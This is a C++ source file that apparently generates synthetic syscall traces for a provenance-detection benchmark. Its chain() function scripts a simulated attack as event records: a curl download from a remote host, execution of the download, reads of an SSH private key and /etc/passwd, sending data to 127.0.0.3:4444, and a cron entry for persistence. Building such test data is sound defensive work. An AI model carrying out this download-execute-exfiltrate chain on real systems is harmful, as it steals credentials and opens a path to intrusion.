// --graph-rich (generate_session.cpp): file identities, pid reuse, pipes between shells and
// their children, and the scripted download-execute-exfiltrate chains.
#include "synthetic_session.h"

#include <algorithm>
#include <string_view>

namespace provscope::bench {

// --graph-rich: the identity the kernel reports for a file of the pool.
void Generator::identify(Event &e, int file)
{
    if (m_graphRich) {
        e.dev = kRichDev;
        e.ino = m_ino[size_t(file)];
    }
}

// --graph-rich: the next pid, wrapping within kRichPidSpan and skipping live processes.
uint32_t Generator::nextPid()
{
    if (!m_graphRich)
        return m_nextPid++;
    for (;;) {
        const uint32_t pid = m_nextPid++;
        if (m_nextPid >= 2000 + kRichPidSpan)
            m_nextPid = 2000;
        if (std::none_of(m_live.begin(), m_live.end(), [&](size_t i) { return proc(i).info.pid == pid; }))
            return pid;
    }
}

// --graph-rich: one read or write run on a named object, outside the fd tables.
void Generator::io(Proc &p, const char *syscall, const std::string &path, int fd, uint64_t count, uint64_t each,
    uint64_t ino)
{
    advance();
    Event e = base(p);
    e.syscall = syscall;
    e.path = path;
    e.dev = ino ? kRichDev : 0;
    e.ino = ino;
    e.fd = fd;
    e.count = count;
    e.bytes = count * each;
    e.ret = int64_t(each);
    e.lastTsNs = e.tsNs + (count - 1) * 1500;
    m_ts = e.lastTsNs;
    emit(std::move(e));
}

// --graph-rich: a pipe between a parent and its child, either way ("cmd | ...", "$(cmd)").
void Generator::pipeBetween(size_t parent, size_t child)
{
    const std::string pipe = "pipe:[" + std::to_string(700000 + m_pipes++) + "]";
    const uint64_t count = 1 + m_rich.below(40);
    if (m_rich.chance(0.5)) {
        io(proc(parent), "write", pipe, 4, count, 512);
        io(proc(child), "read", pipe, 0, count, 512);
    } else {
        io(proc(child), "write", pipe, 1, count, 512);
        io(proc(parent), "read", pipe, 3, count, 512);
    }
}

// --graph-rich: a child of parent that executes exe (not one of the programs' images).
size_t Generator::spawn(size_t parentIndex, int program, const std::string &exe, std::vector<std::string> argv,
         uint64_t ino)
{
    advance();
    Proc child;
    Proc &parent = proc(parentIndex);
    child.info = parent.info;
    child.info.pid = nextPid();
    child.info.nsPid = child.info.pid;
    child.info.ppid = parent.info.pid;
    child.info.parentStartNs = parent.info.startNs;
    child.info.startNs = m_ts;
    child.info.exitTsNs = 0;
    child.gid = parent.gid;
    child.weight = 2;
    Event clone = base(parent);
    clone.syscall = "clone";
    clone.flags = 0x01200000 | 17;
    clone.ret = child.info.pid;
    m_batch.processes.push_back(child.info);
    emit(std::move(clone));
    advance();
    child.program = program;
    child.info.comm = exe.substr(exe.rfind('/') + 1, 15);
    child.info.exe = exe;
    child.info.argv = std::move(argv);
    m_batch.processes.push_back(child.info);
    Event exec = base(child);
    exec.syscall = "execve";
    exec.path = exe;
    exec.dev = kRichDev;
    exec.ino = ino;
    exec.argv = child.info.argv;
    emit(std::move(exec));
    m_procs.push_back(std::move(child));
    m_live.push_back(m_procs.size() - 1);
    return m_procs.size() - 1;
}

void Generator::openFile(Proc &p, const std::string &path, int fd, bool writing, uint64_t ino)
{
    advance();
    Event e = base(p);
    e.syscall = "openat";
    e.path = path;
    e.dev = kRichDev;
    e.ino = ino;
    e.fd = fd;
    e.ret = fd;
    e.flags = writing ? 0x241 : 0x80000;
    e.mode = writing ? 0644 : 0;
    emit(std::move(e));
}

void Generator::closeFile(Proc &p, const std::string &path, int fd, uint64_t ino)
{
    advance();
    Event e = base(p);
    e.syscall = "close";
    e.path = path;
    e.dev = kRichDev;
    e.ino = ino;
    e.fd = fd;
    emit(std::move(e));
}

void Generator::socketIo(Proc &p, const char *syscall, const Remote &to, int fd, uint64_t count, uint64_t each)
{
    advance();
    Event e = base(p);
    e.syscall = syscall;
    e.fd = fd;
    e.laddr = to.addr.rfind("127.", 0) == 0 ? "127.0.0.1" : "10.0.0.2";
    e.lport = uint16_t(32768 + (fd * 131 + p.info.pid) % 28000);
    e.raddr = to.addr;
    e.rport = to.port;
    if (std::string_view(syscall) != "connect") {
        e.count = count;
        e.bytes = count * each;
        e.ret = int64_t(each);
        e.lastTsNs = e.tsNs + (count - 1) * 2000;
    }
    m_ts = e.lastTsNs;
    emit(std::move(e));
}

// --graph-rich: the download, execute, steal, exfiltrate, persist chain number n.
void Generator::chain(size_t n)
{
    const std::string tag = std::to_string(n);
    const size_t shell = n % 2 ? 4 : 5; // the two login shells (pids 1204, 1377)
    const Remote server{"93.184.216." + std::to_string(10 + n), 80};
    const std::string download = "/tmp/.cache/dl_" + tag;
    const uint64_t downloadIno = m_nextIno++;
    const size_t curl = spawn(shell, 6, "/usr/bin/curl",
                              {"curl", "-so", download, "http://" + server.addr + "/x"}, 500 + 6);
    socketIo(proc(curl), "connect", server, 3, 1, 0);
    socketIo(proc(curl), "sendto", server, 3, 1, 90);
    socketIo(proc(curl), "recvfrom", server, 3, 20, 4096);
    openFile(proc(curl), download, 4, true, downloadIno);
    io(proc(curl), "write", download, 4, 20, 4096, downloadIno);
    closeFile(proc(curl), download, 4, downloadIno);
    exitProc(curl);

    const size_t x = spawn(shell, 15, download, {download, "--quiet"}, downloadIno);
    const std::string secret = "/home/alice/.ssh/id_rsa";
    constexpr uint64_t secretIno = 3'000'001;
    openFile(proc(x), secret, 3, false, secretIno);
    io(proc(x), "read", secret, 3, 1, 2602, secretIno);
    closeFile(proc(x), secret, 3, secretIno);
    const uint64_t passwdIno = m_ino[2]; // /etc/passwd, third of the pool
    openFile(proc(x), m_files[2], 3, false, passwdIno);
    io(proc(x), "read", m_files[2], 3, 1, 1870, passwdIno);
    closeFile(proc(x), m_files[2], 3, passwdIno);
    const std::string archive = "/tmp/.x_" + tag + ".tar";
    const uint64_t archiveIno = m_nextIno++;
    openFile(proc(x), archive, 3, true, archiveIno);
    io(proc(x), "write", archive, 3, 2, 2048, archiveIno);
    closeFile(proc(x), archive, 3, archiveIno);
    advance();
    const std::string renamed = "/tmp/.x_" + tag + ".dat"; // same inode, new name
    Event rename = base(proc(x));
    rename.syscall = "rename";
    rename.path = archive;
    rename.path2 = renamed;
    emit(std::move(rename));
    openFile(proc(x), renamed, 3, false, archiveIno);
    io(proc(x), "read", renamed, 3, 2, 2048, archiveIno);
    closeFile(proc(x), renamed, 3, archiveIno);
    const Remote drop{"127.0.0.3", 4444};
    socketIo(proc(x), "connect", drop, 4, 1, 0);
    socketIo(proc(x), "sendto", drop, 4, 1, 4096);
    const std::string cron = "/etc/cron.d/dl_" + tag;
    const uint64_t cronIno = m_nextIno++;
    openFile(proc(x), cron, 5, true, cronIno);
    io(proc(x), "write", cron, 5, 1, 64, cronIno);
    closeFile(proc(x), cron, 5, cronIno);
}

void Generator::exitProc(size_t index)
{
    const auto at = std::find(m_live.begin(), m_live.end(), index);
    if (at == m_live.end())
        return;
    Proc &p = proc(index);
    p.alive = false;
    p.fds.clear();
    p.info.exitTsNs = m_ts;
    m_batch.processes.push_back(p.info);
    *at = m_live.back();
    m_live.pop_back();
}

} // namespace provscope::bench
